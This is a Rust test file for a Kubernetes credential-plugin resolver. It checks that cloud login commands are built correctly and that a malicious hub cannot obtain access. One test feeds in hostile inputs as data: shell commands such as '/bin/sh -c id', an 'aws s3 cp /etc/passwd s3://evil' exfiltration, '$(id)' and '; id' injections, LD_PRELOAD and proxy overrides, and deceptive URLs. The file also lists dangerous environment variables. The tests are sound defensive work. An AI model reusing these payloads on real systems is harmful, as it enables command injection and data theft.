#![allow(clippy::unwrap_used, clippy::panic)]
use super::Policy;
use super::provider_file::ProviderFile;
use crate::config::hosts::HostPattern;
use crate::config::{self, ClusterMapping};
use crate::kubeconfig::Kubeconfig;
use crate::record::{Access, Cluster, Reason};
use crate::resolve::{Resolution, Resolver, Verdict};
use serde_json::{Value, json};
use std::path::Path;

const EKS: &str = "https://A1.gr7.eu-west-1.eks.amazonaws.com";
const FILE: &str = r#"{"providers": [
  {"name": "corp", "execConfig": {"apiVersion": "client.authentication.k8s.io/v1", "command": "corp-login",
    "args": ["token"], "env": [{"name": "Z", "value": "z"}, {"name": "A", "value": "own"}], "provideClusterInfo": true,
    "interactiveMode": "Never"}, "profileSourcedCLIArgsPolicy": "Append", "profileSourcedEnvVarsPolicy": "AppendIfNotExists"},
  {"name": "strict", "execConfig": {"command": "corp-login", "args": null, "env": null}}]}"#;

fn pem() -> String {
    "-----BEGIN CERTIFICATE-----\nQQ==\n-----END CERTIFICATE-----\n".to_owned()
}

fn base64(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn resolver(allow: &[&str], commands: &[&str]) -> Resolver {
    let policy = Policy {
        config: config::Access {
            allowed_hosts: allow
                .iter()
                .map(|host| (None, HostPattern::parse(host).unwrap()))
                .collect(),
            allowed_commands: commands.iter().map(|line| (*line).to_owned()).collect(),
            allowed_variables: vec!["B".into()],
            ..config::Access::default()
        },
        file: serde_yaml::from_str::<ProviderFile>(FILE).unwrap(),
        config_file: "CONFIG".into(),
        providers_file: "PROVIDERS".into(),
    };
    let kubeconfig = "clusters: [{name: h, cluster: {server: 'https://hub.example:6443', certificate-authority-data: b3du}}]\n\
        users: [{name: u, user: {token: hub-token}}]\ncontexts: [{name: hub, context: {cluster: h, user: u}}]\n";
    let kubeconfig = Kubeconfig::from_text(kubeconfig, Path::new("/k")).unwrap();
    Resolver::new(kubeconfig, ClusterMapping::default()).with_policy(policy)
}

fn record(providers: &Value, properties: &Value) -> String {
    json!({"kind": "Cluster", "cluster": "prod", "hub": "hub", "accessProviders": providers, "properties": properties})
        .to_string()
}

fn resolved(resolver: &Resolver, line: &str) -> Resolution {
    let cluster: Cluster<'_> = serde_json::from_str(line).unwrap();
    resolver.resolve(&cluster)
}

#[track_caller]
fn access(resolver: &Resolver, providers: &Value, properties: &Value) -> Access<'static> {
    match resolved(resolver, &record(providers, properties)) {
        Resolution::Access(access) => access,
        Resolution::Skip(skip) => panic!("{}", skip.message),
    }
}

/// The command line that would run.
fn line(resolver: &Resolver, access: &Access<'_>) -> String {
    let exec = resolver.connection(access, "prod").unwrap().user.exec.unwrap();
    format!("{} {}", exec.command.unwrap(), exec.args.unwrap().join(" "))
}

const TENANT: &str = "00000000-1111-2222-3333-444444444444";

/// An access provider with an extension for its plugin.
fn told(name: &str, server: &str, extension: &Value) -> Value {
    let extensions = json!([{"name": "client.authentication.k8s.io/exec", "extension": extension}]);
    json!([{"name": name, "cluster": {"server": server, "extensions": extensions}}])
}

#[test]
fn the_clouds_are_logged_in_to_with_their_own_tools() {
    let rows = [
        (
            json!([{"name": "eks", "cluster": {"server": EKS}}]),
            json!({"region": "eu-west-1", "cluster.name": "shop"}),
            "aws --region eu-west-1 eks get-token --cluster-name shop --output json",
        ),
        (
            json!([{"name": "whatever", "cluster": {"server": EKS}}]),
            json!({"cloud.provider": "AWS EKS"}),
            "aws --region eu-west-1 eks get-token --cluster-name prod --output json",
        ),
        (
            json!([{"name": "x", "cluster": {"server": EKS}}]),
            json!({"auth.exec.command": "aws", "auth.exec.args": "eks, get-token, --cluster-name, n, --region, eu-west-2"}),
            "aws --region eu-west-2 eks get-token --cluster-name n --output json",
        ),
        (
            json!([null, {"name": "google", "cluster": {"server": "https://connectgateway.googleapis.com/v1/p"}}]),
            json!({}),
            "gke-gcloud-auth-plugin ",
        ),
        (
            json!([{"name": "p", "cluster": {"server": "https://n-1.hcp.eastus.azmk8s.io:443"}}]),
            json!({"cluster.type": "Azure AKS"}),
            "kubelogin get-token --login azurecli --server-id 6dae42f8-4368-4678-94ff-3960e28e3630",
        ),
        // A host that names no region: aws takes the user's own.
        (
            json!([{"name": "eks", "cluster": {"server": "https://ABC123.eks.amazonaws.com"}}]),
            json!({}),
            "aws eks get-token --cluster-name prod --output json",
        ),
        // What mc-enrich writes, after the hub's manager took the properties away, and with another one's.
        (
            told(
                "eks",
                "https://vpc.eu-west-1.eks.amazonaws.com",
                &json!({"clusterName": "shop", "region": "eu-west-3"}),
            ),
            json!({}),
            "aws --region eu-west-3 eks get-token --cluster-name shop --output json",
        ),
        (
            told("eks", EKS, &json!({"clusterName": "shop", "region": "eu-west-3"})),
            json!({"cluster.name": "web", "region": "us-east-1"}),
            "aws --region us-east-1 eks get-token --cluster-name web --output json",
        ),
        (
            told("eks", EKS, &json!({"clusterName": ["shop"], "region": 1})),
            json!({}),
            "aws --region eu-west-1 eks get-token --cluster-name prod --output json",
        ),
        (
            told("aks", "https://n.azmk8s.io", &json!({"tenantId": TENANT})),
            json!({}),
            "kubelogin get-token --login azurecli --server-id 6dae42f8-4368-4678-94ff-3960e28e3630 \
             --tenant-id 00000000-1111-2222-3333-444444444444",
        ),
    ];
    let resolver = resolver(&[], &[]);
    for (providers, properties, expected) in rows {
        let access = access(&resolver, &providers, &properties);
        assert_eq!(line(&resolver, &access), expected);
        assert_eq!(access.via.as_deref(), Some("provider"));
    }
}

/// OpenShift on Amazon's machines, as mc-enrich describes it.
#[test]
fn a_cloud_s_tool_is_for_its_own_kind_of_cluster() {
    let providers = json!([{"name": "kubernetes", "cluster": {"server": EKS}}]);
    let properties = json!({"cluster.type": "kubernetes", "cloud.provider": "aws", "region": "eu-west-1"});
    let line = record(&providers, &properties);
    match resolved(&resolver(&[], &[]), &line) {
        Resolution::Skip(skip) => assert!(skip.message.contains("it is not built in"), "{}", skip.message),
        Resolution::Access(access) => panic!("{access:?}"),
    }
}

#[test]
fn the_file_s_order_selects_and_its_policies_bind() {
    let resolver = resolver(&["corp.example"], &[]);
    let cluster = |extensions: Value| json!({"server": "https://corp.example", "extensions": extensions});
    let prefix = "clusterprofiles.multicluster.x-k8s.io/exec";
    let extensions = json!([
        {"name": format!("{prefix}/additional-args"), "extension": ["--cluster", "prod"]},
        {"name": format!("{prefix}/additional-envs"), "extension": {"A": "theirs", "B": "b"}},
        {"name": "client.authentication.k8s.io/exec", "extension": {"audience": "x"}},
    ]);
    let both = json!([
        {"name": "strict", "cluster": cluster(extensions.clone())}, {"name": "corp", "cluster": cluster(extensions.clone())},
    ]);
    let chosen = access(&resolver, &both, &json!({}));
    assert_eq!(chosen.provider.as_deref(), Some("corp"));
    assert_eq!(line(&resolver, &chosen), "corp-login token --cluster prod");
    let made = resolver.connection(&chosen, "prod").unwrap();
    let env: Vec<_> = made.user.exec.unwrap().env.unwrap();
    let env: Vec<_> = env
        .iter()
        .map(|entry| (entry["name"].as_str(), entry["value"].as_str()))
        .collect();
    assert_eq!(env, [("A", "own"), ("B", "b"), ("Z", "z")]);
    assert_eq!(
        made.cluster.extensions.unwrap()[0].extension,
        json!({"audience": "x"})
    );

    let strict = access(&resolver, &json!([both[0]]), &json!({}));
    assert_eq!(line(&resolver, &strict), "corp-login ");
    assert_eq!(serde_json::to_value(&strict).unwrap()["plugin"], json!({}));
}

#[test]
fn cluster_proxy_gets_the_hub_s_own_user_and_only_at_the_hub_s_address() {
    let proxy = |server: &str| {
        let cluster =
            json!({"server": server, "tls-server-name": "n", "certificate-authority-data": base64(&pem())});
        json!([{"name": "open-cluster-management", "cluster": cluster}])
    };
    let resolver = resolver(&["*.proxy.example"], &[]);
    for (server, is_hub) in [
        ("https://hub.example:6443/prod", true),
        ("https://x.proxy.example/prod", false),
    ] {
        let access = access(&resolver, &proxy(server), &json!({}));
        assert_eq!(access.user.as_deref(), Some("hub"));
        let made = resolver.connection(&access, "prod").unwrap();
        assert!(made.user.token.is_some());
        assert_eq!(made.cluster.server.as_deref(), Some(server));
        assert!(!serde_json::to_string(&access).unwrap().contains("hub-token"));
        // The hub's own address is verified as the user's own context says, not as a profile does.
        let authority = made.cluster.certificate_authority_data.unwrap();
        assert_eq!(authority, if is_hub { base64("own") } else { base64(&pem()) });
        assert_eq!(made.cluster.tls_server_name.is_none(), is_hub);
    }
    // Another port of the hub's host may be anybody's.
    for server in [
        "https://evil.example",
        "https://hub.example:9092/prod",
        "https://hub.example/prod",
    ] {
        let Resolution::Skip(skip) = resolved(&resolver, &record(&proxy(server), &json!({}))) else {
            panic!("the hub's token would go to {server}");
        };
        assert!(skip.message.contains("(rule \"host\")"), "{}", skip.message);
    }
}

/// What an evil hub may try, and the rule that stops it.
#[test]
fn an_evil_hub_obtains_nothing() {
    let at = |name: &str, server: &str| json!([{"name": name, "cluster": {"server": server}}]);
    let with = |field: &str, value: Value| json!([{"name": "eks", "cluster": {"server": EKS, field: value}}]);
    let extension = |name: &str, value: Value| {
        let name = format!("clusterprofiles.multicluster.x-k8s.io/exec/{name}");
        json!([{"name": "corp", "cluster": {"server": "https://corp.example", "extensions": [{"name": name, "extension": value}]}}])
    };
    let none = json!({});
    let exec = |command: &str, args: &str| json!({"auth.exec.command": command, "auth.exec.args": args});
    let rows: Vec<(&str, Value, Value)> = vec![
        ("command", at("eks", EKS), exec("/bin/sh", "-c,touch /tmp/x")),
        ("command", at("eks", EKS), exec("sh", "-c,id")),
        ("command", at("eks", EKS), exec("/tmp/aws", "eks,get-token")),
        ("command", at("eks", EKS), exec("../aws", "eks,get-token")),
        ("command", at("eks", EKS), exec("aws\n", "")),
        (
            "command",
            at("x", "https://corp.example"),
            exec("my-plugin", "token,--cluster,-x"),
        ),
        (
            "command",
            at("x", "https://corp.example"),
            exec("my-plugin", "token,--cluster,a,--more"),
        ),
        (
            "arguments",
            at("eks", EKS),
            exec("aws", "s3,cp,/etc/passwd,s3://evil"),
        ),
        (
            "arguments",
            at("eks", EKS),
            exec("aws", "eks,get-token,--endpoint-url,https://evil.example"),
        ),
        (
            "arguments",
            at("eks", EKS),
            exec("aws", "eks,get-token,--profile,root"),
        ),
        ("arguments", at("eks", EKS), json!({"region": "eu-west-1; id"})),
        (
            "arguments",
            at("eks", EKS),
            json!({"cluster.name": "--endpoint-url=https://evil.example"}),
        ),
        ("arguments", at("eks", EKS), json!({"cluster.name": "../../etc"})),
        ("arguments", at("eks", EKS), json!({"cluster.name": "a\u{1b}[2J"})),
        (
            "arguments",
            at("gke", "https://a.gke.goog"),
            exec("gke-gcloud-auth-plugin", "--x"),
        ),
        (
            "arguments",
            at("gke", "https://a.gke.goog"),
            json!({"auth.exec.apiVersion": "v9"}),
        ),
        (
            "arguments",
            at("aks", "https://a.azmk8s.io"),
            exec(
                "kubelogin",
                "get-token,--server-id,00000003-0000-0000-c000-000000000000",
            ),
        ),
        (
            "arguments",
            at("aks", "https://a.azmk8s.io"),
            json!({"tenant.id": "$(id)"}),
        ),
        (
            "arguments",
            extension("additional-args", json!(["a\u{0}b"])),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"LD_PRELOAD": "/tmp/x.so"})),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"path": "/tmp"})),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"https_proxy": "http://evil"})),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"AWS_ENDPOINT_URL_STS": "http://evil"})),
            none.clone(),
        ),
        (
            "server",
            at("eks", "https://[::1%25.eks.amazonaws.com]"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://evil!.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://m\u{fc}nchen.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "environment",
            extension("additional-envs", json!({"A=B": "x"})),
            none.clone(),
        ),
        (
            "malformed",
            extension("additional-envs", json!([1])),
            none.clone(),
        ),
        (
            "malformed",
            extension("additional-args", json!("x")),
            none.clone(),
        ),
        (
            "size",
            extension("additional-args", json!(vec!["x"; 65])),
            none.clone(),
        ),
        (
            "http",
            at("eks", "http://A1.gr7.eu-west-1.eks.amazonaws.com"),
            none.clone(),
        ),
        (
            "http",
            at("eks", "HTTP://a.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "A1.gr7.eu-west-1.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "file:///etc/passwd"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://a.eks.amazonaws.com@evil.example"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://evil.example\\.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://evil.example/\r\nx: y"),
            json!({"region": "eu-west-1"}),
        ),
        ("server", with("tls-server-name", json!("a b")), none.clone()),
        (
            "host",
            at("eks", "https://evil.example"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "host",
            at("eks", "https://evil.example?.eks.amazonaws.com/")
                .as_array()
                .map(|_| at("eks", "https://eks.amazonaws.com.evil.example"))
                .unwrap(),
            json!({"region": "eu-west-1"}),
        ),
        (
            "host",
            at("eks", "https://10.0.0.1"),
            json!({"region": "eu-west-1"}),
        ),
        ("host", at("gke", "https://34.1.2.3"), none.clone()),
        ("host", at("gke", EKS), none.clone()),
        ("host", at("corp", "https://elsewhere.example"), none.clone()),
        (
            "insecure",
            with("insecure-skip-tls-verify", json!(true)),
            none.clone(),
        ),
        (
            "insecure",
            with("insecure-skip-tls-verify", json!("true")),
            none.clone(),
        ),
        (
            "proxy",
            with("proxy-url", json!("http://evil.example:3128")),
            none.clone(),
        ),
        (
            "ca-path",
            with("certificate-authority", json!("/etc/passwd")),
            none.clone(),
        ),
        (
            "ca-path",
            with("certificate-authority", json!("../../x")),
            none.clone(),
        ),
        (
            "ca",
            with("certificate-authority-data", json!("%%%")),
            none.clone(),
        ),
        (
            "ca",
            with("certificate-authority-data", json!(base64("not a certificate"))),
            none.clone(),
        ),
        (
            "size",
            with("certificate-authority-data", json!("A".repeat(300_000))),
            none.clone(),
        ),
        (
            "size",
            at("eks", &format!("https://{}.eks.amazonaws.com", "a".repeat(3000))),
            none.clone(),
        ),
        ("size", json!([{"name": "x".repeat(1_100_000)}]), none.clone()),
        ("size", json!(vec![json!({"name": "eks"}); 101]), none.clone()),
        ("malformed", json!({"name": "eks"}), none.clone()),
        ("malformed", json!(["eks"]), none.clone()),
        (
            "malformed",
            json!([{"name": "eks", "cluster": "https://x"}]),
            none.clone(),
        ),
        (
            "malformed",
            json!([{"name": "eks", "cluster": {"server": ["https://x"]}}]),
            none.clone(),
        ),
    ];
    // What runs other programs, reads and writes files, or leads elsewhere; by the tools that do.
    let variables = [
        "CLOUDSDK_PYTHON_ARGS",
        "CLOUDSDK_PYTHON_SITEPACKAGES",
        "CLOUDSDK_GSUTIL_PYTHON",
        "CLOUDSDK_CONFIG",
        "CLOUDSDK_PROXY_ADDRESS",
        "CLOUDSDK_CORE_CUSTOM_CA_CERTS_FILE",
        "CLOUDSDK_AUTH_ACCESS_TOKEN_FILE",
        "AZURE_EXTENSION_DIR",
        "AZURE_FEDERATED_TOKEN_FILE",
        "AWS_PAGER",
        "AWS_DATA_PATH",
        "AWS_PROFILE",
        "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
        "AWS_WEB_IDENTITY_TOKEN_FILE",
        "SSLKEYLOGFILE",
        "HOSTALIASES",
        "LESSOPEN",
        "SSH_ASKPASS",
        "_JAVA_OPTIONS",
        "KRB5_CONFIG",
        "XDG_DATA_HOME",
        "ZDOTDIR",
        "LUA_INIT",
        "RES_OPTIONS",
        "LOCALDOMAIN",
        "USERPROFILE",
        "CURL_HOME",
        "VAULT_ADDR",
        "OIDC_ISSUER_URL",
        "ERL_FLAGS",
        "NLSPATH",
        "NETRC",
        "VIMINIT",
        "MAKEFLAGS",
        "AWS_ACCESS_KEY_ID",
        "CLOUDSDK_AUTH_ACCESS_TOKEN",
        "ANYTHING_ELSE",
    ];
    let with_variable = |name: &str| extension("additional-envs", json!({ name: "x" }));
    let rows = rows
        .into_iter()
        .chain(variables.map(|name| ("environment", with_variable(name), none.clone())));
    let resolver = resolver(&["corp.example"], &["my-plugin token --cluster *"]);
    for (rule, providers, properties) in rows {
        let Resolution::Skip(skip) = resolved(&resolver, &record(&providers, &properties)) else {
            panic!("{rule}: {providers:.200} {properties} gives access");
        };
        assert_eq!(skip.reason, Reason::Unresolved, "{}", skip.message);
        assert!(
            skip.message.contains(&format!("(rule {rule:?})")),
            "{rule}: {}",
            skip.message
        );
        assert!(!skip.message.chars().any(char::is_control), "{}", skip.message);
        assert!(skip.message.len() < 1500, "{}", skip.message);
    }
}

#[test]
fn what_may_be_allowed_is_said_and_works() {
    let providers = json!([{"name": "eks", "cluster": {"server": "https://10.1.2.3"}}]);
    let properties = json!({"region": "eu-west-1"});
    let Resolution::Skip(skip) = resolved(&resolver(&[], &[]), &record(&providers, &properties)) else {
        panic!("an address");
    };
    let lines = "write into CONFIG: access: {allowedHosts: {\"eks\": [\"10.1.2.3\"]}}";
    assert!(skip.message.contains(lines), "{}", skip.message);
    access(&resolver(&["10.1.2.3"], &[]), &providers, &properties);

    let providers = json!([{"name": "x", "cluster": {"server": "https://corp.example"}}]);
    let exec = json!({"auth.exec.command": "my-plugin", "auth.exec.args": "token,--cluster,prod"});
    let Resolution::Skip(skip) = resolved(&resolver(&["corp.example"], &[]), &record(&providers, &exec))
    else {
        panic!("a command");
    };
    assert!(
        skip.message
            .contains("allowedCommands: [\"my-plugin token --cluster prod\"]"),
        "{}",
        skip.message
    );
    let resolver = resolver(&["corp.example"], &["my-plugin token --cluster *"]);
    let access = access(&resolver, &providers, &exec);
    assert_eq!(line(&resolver, &access), "my-plugin token --cluster prod");
}

#[test]
fn a_certificate_authority_that_is_encoded_twice_is_taken() {
    let resolver = resolver(&[], &[]);
    for data in [base64(&pem()), base64(&base64(&pem()))] {
        let providers =
            json!([{"name": "eks", "cluster": {"server": EKS, "certificate-authority-data": data}}]);
        let access = access(&resolver, &providers, &json!({}));
        assert_eq!(
            access.certificate_authority_data.as_deref(),
            Some(base64(&pem()).as_str())
        );
    }
}

/// A record is judged again by whoever uses it.
#[test]
fn a_forged_record_is_no_licence() {
    let resolver = resolver(&[], &[]);
    for (rule, access) in [
        (
            "command",
            json!({"provider": "eks", "server": EKS, "plugin": {"command": "/bin/sh", "args": ["-c", "id"]}}),
        ),
        ("command", json!({"provider": "unknown", "server": EKS})),
        (
            "arguments",
            json!({"provider": "eks", "server": EKS, "plugin": {"command": "aws", "args": ["s3", "ls"]}}),
        ),
        (
            "arguments",
            json!({"provider": "eks", "server": EKS, "plugin": {"command": "aws", "args": ["eks", "get-token"]}}),
        ),
        (
            "host",
            json!({"provider": "eks", "server": "https://evil.example", "user": "hub"}),
        ),
        (
            "http",
            json!({"provider": "eks", "server": "http://hub.example", "user": "hub"}),
        ),
    ] {
        let access: Access<'static> = serde_json::from_str::<Access<'_>>(&access.to_string())
            .unwrap()
            .into_owned();
        let error = resolver.connection(&access, "prod").unwrap_err();
        assert_eq!(error.reason, Reason::Unresolved);
        assert!(error.message.contains(&format!("(rule {rule:?})")), "{error}");
    }
}

/// Hosts are allowed for a credential, and a record has no say in which one that is.
#[test]
fn hosts_of_one_provider_are_no_hosts_of_another() {
    let mut resolver = resolver(&[], &["my-plugin token"]);
    let pattern = HostPattern::parse("corp.example").unwrap();
    resolver.policy.config.allowed_hosts = ["corp", "eks", "mine"]
        .map(|provider| (Some(provider.to_owned()), pattern.clone()))
        .to_vec();
    let connection = |access: Value| {
        let access = serde_json::from_str::<Access<'_>>(&access.to_string())
            .unwrap()
            .into_owned();
        resolver.connection(&access, "prod")
    };
    let server = "https://corp.example";
    let plugin = json!({"command": "my-plugin", "args": ["token"]});
    let gke = json!({"command": "gke-gcloud-auth-plugin"});
    for access in [
        json!({"provider": "corp", "server": server, "user": "hub"}),
        json!({"provider": "corp", "server": server, "plugin": gke}),
        json!({"provider": "eks", "server": server, "plugin": gke}),
        json!({"provider": "eks", "server": server, "plugin": plugin}),
        json!({"provider": "corp", "server": server, "plugin": plugin}),
    ] {
        let error = connection(access.clone()).unwrap_err();
        assert!(error.message.contains("(rule \"host\")"), "{access} {error}");
    }
    assert!(connection(json!({"provider": "mine", "server": server, "plugin": plugin})).is_ok());
    assert!(connection(json!({"provider": "corp", "server": server})).is_ok());
}

/// What a plugin is told of a cluster is the provider file's to allow.
#[test]
fn only_a_provider_of_the_file_is_told_what_a_record_says() {
    let resolver = resolver(&[], &[]);
    let access = json!({"provider": "open-cluster-management", "server": "https://hub.example:6443", "user": "hub",
        "plugin": {"config": {"audience": "x"}}});
    let access: Access<'static> = serde_json::from_str::<Access<'_>>(&access.to_string())
        .unwrap()
        .into_owned();
    let made = resolver.connection(&access, "prod").unwrap();
    assert!(made.cluster.extensions.is_none());
}

/// A line that was copied from the error must not allow more than the hub wants.
#[test]
fn a_line_that_would_allow_more_is_not_offered() {
    for args in ["token,*", "token,a b"] {
        let providers = json!([{"name": "mine", "cluster": {"server": "https://corp.example"}}]);
        let exec = json!({"auth.exec.command": "my-plugin", "auth.exec.args": args});
        let Resolution::Skip(skip) = resolved(&resolver(&["corp.example"], &[]), &record(&providers, &exec))
        else {
            panic!("a command");
        };
        assert!(!skip.message.contains("allowedCommands"), "{}", skip.message);
        assert!(skip.message.contains("name a provider"), "{}", skip.message);
    }
}

#[test]
fn a_managed_cluster_gives_access_by_its_vendor_and_client_config() {
    let of = |server: &str, properties: &Value| {
        let line = json!({"kind": "Cluster", "cluster": "prod", "hub": "hub", "properties": properties,
            "clientConfigs": [{"server": server, "caBundle": base64(&pem())}]});
        resolved(&resolver(&[], &[]), &line.to_string())
    };
    let eks = json!({"product.open-cluster-management.io": "EKS", "region.open-cluster-management.io": "eu-west-1",
        "platform.open-cluster-management.io": "AWS", "cluster-name": "own-name"});
    let Resolution::Access(access) = of(EKS, &eks) else {
        panic!()
    };
    assert_eq!(access.provider.as_deref(), Some("eks"));
    assert_eq!(access.server.as_deref(), Some(EKS));
    assert!(access.certificate_authority_data.is_some());
    let plugin = access.plugin.unwrap();
    assert!(
        plugin.args.iter().any(|arg| *arg == "own-name"),
        "{:?}",
        plugin.args
    );
    // The label that OCM sets where it has found out the vendor.
    assert!(matches!(
        of(EKS, &json!({"vendor": "EKS", "region": "eu-west-1"})),
        Resolution::Access(_)
    ));
    for (server, properties, reason, message) in [
        (
            "https://elsewhere.example",
            eks.clone(),
            Reason::Unresolved,
            "rule \"host\"",
        ),
        (
            EKS,
            json!({"product.open-cluster-management.io": "OpenShift", "cloud.provider": "aws"}),
            Reason::Skipped,
            "the server of its ManagedCluster: no property",
        ),
        (
            EKS,
            json!({"vendor": "auto-detect"}),
            Reason::Skipped,
            "the server of its ManagedCluster: no property",
        ),
    ] {
        let Resolution::Skip(skip) = of(server, &properties) else {
            panic!("{properties}")
        };
        assert_eq!(skip.reason, reason, "{}", skip.message);
        assert!(skip.message.contains(message), "{}", skip.message);
    }
}

#[test]
fn what_was_looked_at_is_told() {
    let resolver = resolver(&[], &[]);
    let line = record(&json!([{"name": "eks", "cluster": {"server": EKS}}]), &json!({}));
    let cluster: Cluster<'_> = serde_json::from_str(&line).unwrap();
    let explained = resolver.explain(&cluster);
    let verdicts: Vec<_> = explained.tried.iter().map(|tried| tried.verdict).collect();
    let nothing = Verdict::Nothing;
    assert_eq!(verdicts, [nothing, nothing, nothing, Verdict::Chosen]);
    assert!(
        explained
            .text()
            .starts_with("access provider \"eks\": the credential plugin \"aws\", server https://")
    );
    assert!(
        explained.text().contains("; no mapping in "),
        "{}",
        explained.text()
    );
}

/// Names that a hub alone may not give, and that the user allows in the configuration.
#[test]
fn flags_that_choose_an_identity_are_allowed_by_a_line_of_the_configuration() {
    let rows = [
        (
            EKS,
            "aws",
            "eks,get-token,--cluster-name,n,--role-arn,arn:aws:iam::1:role/x",
            "aws eks get-token --cluster-name n --role-arn arn:aws:iam::1:role/x",
            "aws eks get-token --cluster-name * --role-arn arn:aws:iam::1:role/x",
        ),
        (
            EKS,
            "aws",
            "eks,get-token,--cluster-name,n,--profile,prod",
            "aws eks get-token --cluster-name n --profile prod",
            "aws eks get-token --cluster-name * --profile prod",
        ),
        (
            "https://n.cx.prod.service.azk8s.cn",
            "kubelogin",
            "get-token,--login,azurecli,--environment,AzureChinaCloud",
            "kubelogin get-token --login azurecli --environment AzureChinaCloud",
            "kubelogin get-token --login azurecli --environment *",
        ),
    ];
    for (server, command, args, expected, allowed) in rows {
        let providers = json!([{"name": "kubeconfig", "cluster": {"server": server}}]);
        let properties = json!({"auth.exec.command": command, "auth.exec.args": args});
        let Resolution::Skip(skip) = resolved(&resolver(&[], &[]), &record(&providers, &properties)) else {
            panic!("{args}");
        };
        let remedy = format!(
            "(rule \"arguments\"): if you trust that command line, write into CONFIG: access: {{allowedCommands: [{expected:?}]}}"
        );
        assert!(skip.message.contains(&remedy), "{}", skip.message);
        for line in [expected, allowed] {
            let resolver = resolver(&[], &[line]);
            let access = access(&resolver, &providers, &properties);
            assert_eq!(self::line(&resolver, &access), expected);
        }
        // Its hosts are the template's all the same.
        let elsewhere = json!([{"name": "kubeconfig", "cluster": {"server": "https://evil.example"}}]);
        assert!(matches!(
            resolved(&resolver(&[], &[allowed]), &record(&elsewhere, &properties)),
            Resolution::Skip(skip) if skip.message.contains("(rule \"host\")")
        ));
    }
}

/// Where DNS lies, these would lead a token to whoever the hub wants.
#[test]
fn a_hub_does_not_say_how_a_cloud_s_own_hosts_are_verified() {
    let made = |name: &str, server: &str, allow: &[&str]| {
        let cluster = json!({"server": server, "tls-server-name": "evil.example", "certificate-authority-data": base64(&pem())});
        let resolver = resolver(allow, &[]);
        let properties = json!({"region": "eu-west-1"});
        let access = access(
            &resolver,
            &json!([{"name": name, "cluster": cluster}]),
            &properties,
        );
        let made = resolver.connection(&access, "prod").unwrap().cluster;
        (
            made.tls_server_name.is_some(),
            made.certificate_authority_data.is_some(),
        )
    };
    assert_eq!(made("eks", EKS, &[]), (false, true));
    assert_eq!(made("aks", "https://n.azmk8s.io", &[]), (false, true));
    for host in [
        "a.gke.goog",
        "connectgateway.googleapis.com",
        "us-connectgateway.googleapis.com",
    ] {
        assert_eq!(
            made("gke", &format!("https://{host}"), &[]),
            (false, false),
            "{host}"
        );
    }
    // A cluster's own address has a certificate that only its own authority vouches for.
    assert_eq!(made("gke", "https://10.1.2.3", &["10.1.2.3"]), (false, true));
    assert_eq!(
        made("corp", "https://corp.example", &["corp.example"]),
        (true, true)
    );
}

#[test]
fn a_variable_that_is_refused_is_named_with_what_would_allow_it() {
    let name = "clusterprofiles.multicluster.x-k8s.io/exec/additional-envs";
    let set = |variables: Value| {
        json!([{"name": "corp", "cluster": {"server": "https://corp.example",
        "extensions": [{"name": name, "extension": variables}]}}])
    };
    let mut resolver = resolver(&["corp.example"], &[]);
    let providers = set(json!({"CLUSTER_NAME": "n", "AWS_REGION": "eu-west-1", "CORP_REALM": "r"}));
    let Resolution::Skip(skip) = resolved(&resolver, &record(&providers, &json!({}))) else {
        panic!("a variable");
    };
    let words = "sets the environment variable \"CORP_REALM\" (rule \"environment\"): to allow it, if any value of \
        it is fine, write into CONFIG: access: {allowedVariables: [CORP_REALM]}, or name";
    assert!(skip.message.contains(words), "{}", skip.message);
    resolver.policy.config.allowed_variables = vec!["CORP_*".into()];
    let made = access(&resolver, &providers, &json!({}));
    let env = resolver
        .connection(&made, "prod")
        .unwrap()
        .user
        .exec
        .unwrap()
        .env
        .unwrap();
    let names: Vec<&str> = env.iter().map(|entry| entry["name"].as_str()).collect();
    assert_eq!(names, ["A", "AWS_REGION", "CLUSTER_NAME", "CORP_REALM", "Z"]);
}
